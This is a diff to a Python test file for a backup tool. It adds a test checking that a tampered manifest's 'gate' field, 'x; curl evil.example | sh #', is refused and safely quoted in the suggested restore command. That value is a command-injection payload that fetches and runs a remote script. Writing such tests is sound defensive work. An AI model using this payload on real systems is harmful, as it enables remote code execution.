@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import json
 import os
+import shlex
 import shutil
 import tarfile
 from collections.abc import Callable
@@ -92,3 +93,13 @@ def test_a_record_in_whose_schema_somebody_wrote_is_refused_before_any_of_it_run
     with pytest.raises(StoreError, match="the record is damaged: schema: `formerly` is not this program's"):
         put_back(bed, to)
     assert not bed.own.exists()
+
+
+def test_no_command_that_is_offered_holds_one_of_somebody_elses(tmp_path: Path) -> None:
+    bed, to, gate = made(tmp_path), tmp_path / "copy", "x; curl evil.example | sh #"
+    backup(bed, to)
+    data = json.loads((to / "manifest.json").read_bytes()) | {"sha256": "", "gate": gate}
+    (to / "manifest.json").write_text(BackupManifest.model_validate_json(json.dumps(data)).summed.model_dump_json())
+    with pytest.raises(UsageError, match="is a backup of gate") as refused:
+        put_back(bed, to)
+    assert ["sds", "restore", "--gate", gate, "--from", str(to)] == shlex.split(refused.value.hint)
